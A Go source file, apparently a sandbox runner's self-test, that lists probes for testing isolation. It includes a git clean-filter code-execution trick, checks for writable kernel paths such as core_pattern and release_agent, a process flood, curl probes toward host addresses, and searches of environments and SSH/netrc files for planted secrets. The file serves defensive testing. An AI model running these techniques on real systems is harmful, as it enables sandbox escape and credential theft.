package selftest

import (
	"context"
	"path/filepath"

	"sandboxrun/cmd/sandboxrun/attack"
)

// keyHead is long enough to identify the key and too short for a filter that redacts whole keys.
const keyHead = "sk-ant-attack-the-re"

// userSecret is in the user's untracked files.
const userSecret = "stray-secret-of-the-user"

// Attacks lists the attacks of the self-test: one or two of each group that needs no preparation, and the comparison
// of a box with its expected picture.
func Attacks() []attack.Attack {
	return []attack.Attack{
		attack.Proven(attack.Attack{
			ID: "G06", Group: attack.GitExec, Title: "a submodule's directory becomes a repository with a filter",
			Submodule: "sub",
			Script:    `set -- sub; rm -rf sub; ` + `git init -q $1; cd $1; echo inner > s; git add s; git -c user.name=a -c user.email=a@a commit -q -m s; ` + `git config filter.e.clean "touch $PWN; cat"; echo '* filter=e' > .git/info/attributes; printf 'inneR\n' > s`,
			Breached:  attack.Scene.Pwned, Shares: true,
		}),
		attack.SpecialFile("D01", "a FIFO as .gitignore", `mkfifo .gitignore`),
		attack.Scripted("C02", attack.Container, "have or gain capabilities", `
for f in /proc/1/status /proc/self/status; do
	grep -H '^Cap' $f | grep -v ':[[:space:]]*0000000000000000' | sed 's/^/GOT /'
	grep -H '^NoNewPrivs' $f | grep -v '1$' | sed 's/^/GOT /'
	grep -H '^Seccomp:' $f | grep -v '2$' | sed 's/^/GOT /'
done
sh -c 'sh -c "grep ^CapEff /proc/self/status"' | grep -v 0000000000000000 | sed 's/^/GOT in a child /'`).InSentry("/proc/1/status:Seccomp", "/proc/self/status:Seccomp"),
		attack.Scripted("C03", attack.Container, "make namespaces, mounts and devices", `
unshare -r true 2>/dev/null && echo GOT a user namespace
unshare -m true 2>/dev/null && echo GOT a mount namespace
unshare -Urm true 2>/dev/null && echo GOT both
mkdir -p /tmp/c03 && mount -t tmpfs none /tmp/c03 2>/dev/null && echo GOT a mount && umount /tmp/c03
mount -o remount,rw / 2>/dev/null && echo GOT a writable root
mknod /tmp/c03.null c 1 3 2>/dev/null && echo GOT a device
chroot / true 2>/dev/null && echo GOT chroot
rm -rf /tmp/c03*`).InSentry("a user namespace", "both"),
		attack.Scripted("C08", attack.Container, "change settings of the kernel", `
for f in /proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/panic_on_oom /dev/mem /dev/kmsg /dev/port \
	/sys/fs/cgroup/release_agent /sys/fs/cgroup/*/release_agent /sys/kernel/uevent_helper /sys/fs/cgroup/cgroup.procs; do
	[ -e $f ] && (exec 3>>$f) 2>/dev/null && echo "GOT $f open for writing"
done
true`).NaiveFlags("--security-opt", "systempaths=unconfined"),
		attack.Scripted("C10", attack.Container, "change the image's programs for later runs", `
for f in /usr/bin/git /bin/sh /etc/passwd /etc/ld.so.preload /etc/hosts /etc/profile /root/.bashrc /.sandboxrun/guest /usr/local/bin/git; do
	(exec 3>>$f) 2>/dev/null && echo "GOT $f open for writing"
done
touch /new /usr/lib/new 2>/dev/null && echo GOT a file of its own in the system
true`),
		attack.Scripted("C24", attack.Container, "be root, or have root's groups", `
[ "$(id -u)" != 0 ] || echo GOT user 0
id -G | tr ' ' '\n' | grep -qx 0 && echo GOT group 0
true`),
		{
			ID: "R01", Group: attack.Resources, Title: "fork more processes than allowed", Naive: attack.Naive{Host: "true"}, Breached: attack.GotBefore,
			Task: func(task map[string]any) { task["box"] = map[string]any{"pids": 64} },
			Script: `
i=0; while [ $i -lt 200 ]; do sleep 20 & i=$((i+1)); done
n=$(ls -d /proc/[0-9]* | wc -l); [ $n -lt 200 ] || echo "GOT $n processes"`,
		},
		attack.Scripted("N01", attack.Network, "have a network", `
sed -n 's/^ *\([^:]*\):.*/\1/p' /proc/net/dev | grep -vx lo | sed 's/^/GOT interface /'
tail -n +2 /proc/net/route | grep -q . && echo GOT a route
grep -v ' lo$' /proc/net/ipv6_route 2>/dev/null | sed 's/^/GOT route /'
true`),
		attack.Reaching("N03", "reach services on the host", `
direct() { curl -s -m 2 --noproxy '*' "$@" >/dev/null 2>&1; }
for h in $ADDRS 172.17.0.1 192.168.65.2 127.0.0.1 host.docker.internal; do direct -m 1 "http://$h:$PORT/$ID"; done
gw=$(awk '$2 == "00000000" {print $3}' /proc/net/route | head -1)
[ -z "$gw" ] || direct "http://$(printf '%d.%d.%d.%d' 0x${gw#??????} 0x$(echo $gw | cut -c5-6) 0x$(echo $gw | cut -c3-4) 0x$(echo $gw | cut -c1-2)):$PORT/$ID"
true`),
		attack.Scripted("S01", attack.Secrets, "find the provider's key", `
find_in() { n=$(grep -c '`+keyHead+`'); [ "$n" = 0 ] || echo "GOT the key $n times in $1"; }
env | find_in the environment
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | find_in "the processes' environments"
cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -v find_in | grep -v keyhead | grep '^`+keyHead+`' | find_in their arguments
grep -rIsh . $HOME /tmp /run /.sandboxrun/ca-certificates.crt /etc/environment 2>/dev/null | head -c 20000000 | find_in files
cat $ROOT/.git/config 2>/dev/null | find_in the repository
true`),
		{
			ID: "S05", Group: attack.Secrets, Title: "read the user's untracked files", Breached: attack.Got,
			Host: func(_ context.Context, h *attack.Host) error {
				for _, name := range []string{
					filepath.Join(h.Repo, "ignored", ".env"), filepath.Join(h.Repo, ".git", "stray"), filepath.Join(h.Home, ".ssh", "id_ed25519"),
					filepath.Join(h.Home, ".netrc"), filepath.Join(h.Home, ".docker", "config.json"),
				} {
					if err := h.Write(name, userSecret+"\n", 0o600); err != nil {
						return err
					}
				}
				return nil
			},
			Script: `grep -rls '` + userSecret + `' $ROOT/ignored $ROOT/.git $HOME /root /home /mnt /tmp 2>/dev/null | sed 's/^/GOT /'; echo TRIED`,
		},
		picture(),
	}
}
